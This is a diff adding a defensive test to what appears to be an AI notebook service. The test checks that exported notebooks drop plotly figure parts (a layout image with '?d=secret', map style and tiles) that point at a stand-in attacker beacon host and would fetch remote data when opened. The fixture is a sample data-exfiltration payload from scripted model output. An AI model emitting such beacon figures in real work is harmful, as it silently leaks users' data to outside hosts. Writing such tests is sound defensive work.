@@ -311,6 +311,45 @@ def test_exports_fetch_no_remote_image_when_opened(alice: Api, llm: ScriptedLLM)
     assert not any(re.search(r"<img[^>]*https?://", s, flags=re.IGNORECASE) for s in shown)
 
 
+BEACON_FIGURE = (
+    "import plotly.graph_objects as go\n"
+    "fig = go.Figure(go.Scatter(x=[1, 2], y=[3, 4], text=['https://example.org/a-label']))\n"
+    "fig.update_layout(\n"
+    f"    images=[dict(source='{BEACON}/layout.png?d=secret', xref='paper', yref='paper',\n"
+    "                 x=0, y=1, sizex=1, sizey=1),\n"
+    "            dict(source='data:image/png;base64,iVBORw0KGgo=', x=0, y=0)],\n"
+    f"    map=dict(style='{BEACON}/style.json',\n"
+    f"                layers=[dict(sourcetype='raster', source=['{BEACON}/tiles/{{z}}.png'])]),\n"
+    ")\n"
+    "fig.show()"
+)
+
+
+def test_a_notebooks_charts_fetch_nothing_remote_when_opened(alice: Api, llm: ScriptedLLM) -> None:
+    """JupyterLab's and VS Code's plotly renderers draw a notebook's figures as it opens (the
+    plotly mime type is marked safe), and plotly fetches a layout image's `source` and a map's
+    style and tiles from wherever they point: the model's figure would carry data out."""
+    llm.script(code_reply(BEACON_FIGURE), final_reply("'Here is the chart.'"))
+    session = new_session(alice, "Figure beacon")
+    assert finished(ask(alice, session["id"], "Chart it."))["status"] == "succeeded"
+
+    notebook = nbformat.reads(export_of(alice, session, "ipynb"), as_version=4)
+    figures = [
+        o["data"]["application/vnd.plotly.v1+json"]
+        for c in notebook.cells
+        if c.cell_type == "code"
+        for o in c.outputs
+        if "application/vnd.plotly.v1+json" in o.get("data", {})
+    ]
+    assert len(figures) == 1
+    shown = str(figures[0])
+    assert "attacker.example" not in shown
+    # What fetches nothing stays: the inline image, and text that merely names a URL.
+    assert "data:image/png;base64,iVBORw0KGgo=" in shown
+    assert "https://example.org/a-label" in shown
+    assert figures[0]["data"][0]["y"] == [3, 4]
+
+
 def test_the_notebook_never_points_its_token_at_a_forged_host(alice: Api) -> None:
     session = new_session(alice)
     for forged in ("attacker.example", "attacker.example:8000"):
